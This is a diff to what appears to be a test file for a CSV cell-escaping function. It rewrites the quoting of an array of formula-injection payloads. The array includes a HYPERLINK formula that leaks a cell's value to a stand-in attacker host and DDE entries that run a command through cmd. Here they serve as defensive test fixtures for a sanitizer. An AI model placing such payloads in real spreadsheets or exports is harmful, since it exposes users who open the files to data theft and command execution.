@@ -5,9 +5,9 @@ import { csvCell, csvLine } from '../../src/csv-cell.js';
 const PAYLOADS = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
   "=cmd|' /C calc'!A0",
-  '+1+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '+14155550100',
